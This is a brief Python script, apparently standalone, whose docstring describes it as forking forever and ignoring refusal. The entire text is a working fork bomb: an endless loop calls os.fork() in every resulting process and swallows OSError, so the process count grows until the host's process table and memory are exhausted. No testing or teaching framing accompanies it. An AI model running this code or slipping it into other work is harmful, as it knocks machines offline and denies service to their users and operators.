"""Forks for ever, in every process it gets, and minds no refusal."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
